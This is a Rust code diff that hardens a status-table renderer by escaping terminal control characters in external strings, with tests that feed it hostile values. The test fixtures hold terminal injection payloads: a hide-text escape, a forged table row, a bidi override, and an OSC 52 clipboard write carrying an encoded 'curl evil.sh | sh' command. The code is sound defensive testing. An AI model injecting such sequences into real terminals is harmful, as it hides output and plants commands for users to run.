@@ -4,6 +4,7 @@
 
 use crate::status::state::{Outcome, PhaseStatus, State};
 use crate::util::atomic_file::sha256_hex;
+use crate::util::escape::for_terminal as esc;
 use crate::util::paths::Paths;
 use serde::Serialize;
 use std::fmt::Write as _;
@@ -184,7 +185,8 @@ fn clock(t: time::OffsetDateTime) -> String {
     )
 }
 
-/// The human table.
+/// The human table. Every string that is not ecs-boot's own goes through `esc`: the state quotes
+/// tags, fetched names and other processes' answers, and a terminal must print them, not obey them.
 pub fn render_table(r: &Report) -> String {
     let mut o = String::new();
     let Some(s) = &r.state else {
@@ -198,8 +200,8 @@ pub fn render_table(r: &Report) -> String {
     let _ = writeln!(
         o,
         "ecs-boot {} ({})   health: {}   outcome: {}   daemon: {}",
-        s.version,
-        s.commit,
+        esc(&s.version),
+        esc(&s.commit),
         r.health,
         s.outcome.as_str(),
         if r.daemon_running {
@@ -212,7 +214,10 @@ pub fn render_table(r: &Report) -> String {
         let _ = writeln!(
             o,
             "instance {}  {}  {}  {}",
-            i.instance_id, i.region, i.availability_zone, i.instance_type
+            esc(&i.instance_id),
+            esc(&i.region),
+            esc(&i.availability_zone),
+            esc(&i.instance_type)
         );
     }
     let _ = writeln!(
@@ -230,32 +235,32 @@ pub fn render_table(r: &Report) -> String {
         let _ = writeln!(
             o,
             "{:<22} {:<8} {:<13} {:>8}  {}",
-            p.name,
+            esc(&p.name),
             status,
             clock(p.started_at),
             ms(p.duration_ms),
-            detail
+            esc(detail)
         );
     }
     if let Some(c) = &s.ecs_config {
         let _ = writeln!(
             o,
             "\necs.config  cluster {}  sha256 {}  {} keys{}",
-            c.cluster,
-            &c.sha256[..12.min(c.sha256.len())],
+            esc(&c.cluster),
+            esc(c.sha256.get(..12).unwrap_or(&c.sha256)),
             c.keys.len(),
             c.registry_auth
                 .as_ref()
-                .map(|l| format!("  credentials from {l}"))
+                .map(|l| format!("  credentials from {}", esc(l)))
                 .unwrap_or_default()
         );
     }
     for d in r.agent_drift.iter().chain(r.render_drift.iter()) {
-        let _ = writeln!(o, "DRIFT: {d}");
+        let _ = writeln!(o, "DRIFT: {}", esc(d));
     }
     match &r.ecs_config_drift {
         Some(d) => {
-            let _ = writeln!(o, "DRIFT: {d}");
+            let _ = writeln!(o, "DRIFT: {}", esc(d));
         }
         None if s.ecs_config.is_some() => {
             let _ = writeln!(o, "no drift: the file on disk is what ecs-boot wrote");
@@ -271,15 +276,15 @@ pub fn render_table(r: &Report) -> String {
             let _ = writeln!(
                 o,
                 "{:<16} {:<10} {:>8}  {:<10} {:<13} {}{}",
-                c.name,
-                c.state,
+                esc(&c.name),
+                esc(&c.state),
                 c.restart_count,
-                c.action,
-                &c.id[..12.min(c.id.len())],
-                c.image,
+                esc(&c.action),
+                esc(&c.id.chars().take(12).collect::<String>()),
+                esc(&c.image),
                 c.last_error
                     .as_ref()
-                    .map(|e| format!("  error: {e}"))
+                    .map(|e| format!("  error: {}", esc(e)))
                     .unwrap_or_default()
             );
         }
@@ -288,8 +293,8 @@ pub fn render_table(r: &Report) -> String {
         let _ = writeln!(
             o,
             "\nregistered  {}  cluster {}  at {}",
-            reg.container_instance_arn,
-            reg.cluster,
+            esc(&reg.container_instance_arn),
+            esc(&reg.cluster),
             clock(reg.registered_at)
         );
     }
@@ -310,15 +315,15 @@ pub fn render_table(r: &Report) -> String {
         let _ = writeln!(
             o,
             "hook {:<9} {}  {} on {}  {}{}{}",
-            h.transition,
-            h.result,
-            h.hook,
-            h.asg,
+            esc(&h.transition),
+            esc(&h.result),
+            esc(&h.hook),
+            esc(&h.asg),
             clock(h.completed_at),
             latency,
             h.cause
                 .as_ref()
-                .map(|c| format!("  cause: {c}"))
+                .map(|c| format!("  cause: {}", esc(c)))
                 .unwrap_or_default()
         );
     }
@@ -326,21 +331,23 @@ pub fn render_table(r: &Report) -> String {
         let _ = writeln!(
             o,
             "drain  {}  trigger {}  tasks left {}  started {}  deadline {}",
-            d.state,
-            d.trigger,
+            esc(&d.state),
+            esc(&d.trigger),
             d.tasks_left,
             clock(d.started_at),
             clock(d.deadline_at)
         );
     }
     for w in &s.warnings {
-        let _ = writeln!(o, "WARNING: {w}");
+        let _ = writeln!(o, "WARNING: {}", esc(w));
     }
     if let Some(e) = &s.error {
         let _ = writeln!(
             o,
             "\nERROR in {}: {}\n  hint: {}",
-            e.phase, e.message, e.hint
+            esc(&e.phase),
+            esc(&e.message),
+            esc(&e.hint)
         );
     }
     if !r.daemon_running {
@@ -353,7 +360,7 @@ fn push_journal(o: &mut String, journal: &[String]) {
     if !journal.is_empty() {
         let _ = writeln!(o, "\nlast journal lines of ecs-boot.service:");
         for l in journal {
-            let _ = writeln!(o, "  {l}");
+            let _ = writeln!(o, "  {}", esc(l));
         }
     }
 }
@@ -410,6 +417,68 @@ mod tests {
         );
         assert!(table.contains("hint: tag the ASG"), "{table}");
         assert!(table.contains("health: failed"));
+    }
+
+    /// What a hostile tag or answer could put into the state: hide the rows below, write the
+    /// clipboard, fake a healthy row.
+    const HIDE: &str = "\x1b[8m";
+    const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
+    const FAKE_ROW: &str =
+        "x\nregistration           ok       12:00:00.000    0.1 s  registered";
+
+    fn hostile_state() -> State {
+        let mut s = State::new();
+        s.outcome = Outcome::Failed;
+        s.phases.push(Phase {
+            name: "tags".into(),
+            status: PhaseStatus::Failed,
+            started_at: s.started_at,
+            ended_at: None,
+            duration_ms: Some(1),
+            detail: None,
+            error: Some(format!("tag ecs-boot:cluster {HIDE}")),
+            hint: None,
+        });
+        s.warnings.push(format!("tag {CLIPBOARD} ignored"));
+        s.error = Some(ErrorRecord {
+            phase: "tags".into(),
+            message: FAKE_ROW.into(),
+            hint: format!("\u{202e}{HIDE}"),
+        });
+        s.instance = Some(crate::status::state::Instance {
+            instance_id: format!("i-1{HIDE}"),
+            region: "\u{9b}2J".into(),
+            ..Default::default()
+        });
+        s
+    }
+
+    #[test]
+    fn table_never_passes_terminal_controls_through() {
+        let mut r = report(hostile_state(), false);
+        r.journal = vec![format!("journal {CLIPBOARD}")];
+        r.agent_drift = Some(format!("cluster {HIDE}"));
+        let table = render_table(&r);
+        for bad in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
+            assert!(!table.contains(bad), "{bad:?} in\n{table}");
+        }
+        assert!(table.contains("\\e[8m") && table.contains("\\e]52;c;"), "{table}");
+        assert!(
+            !table
+                .lines()
+                .any(|l| l.starts_with("registration") && l.contains("registered")),
+            "a newline in an error started a fake row:\n{table}"
+        );
+        assert!(table.contains("x\\nregistration"), "{table}");
+    }
+
+    #[test]
+    fn json_keeps_hostile_strings_exact() {
+        let json = render_json(&report(hostile_state(), false));
+        let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(v["state"]["error"]["message"], FAKE_ROW);
+        assert_eq!(v["state"]["warnings"][0], format!("tag {CLIPBOARD} ignored"));
+        assert!(!json.contains('\x1b'), "serde_json escapes controls itself");
     }
 
     #[test]
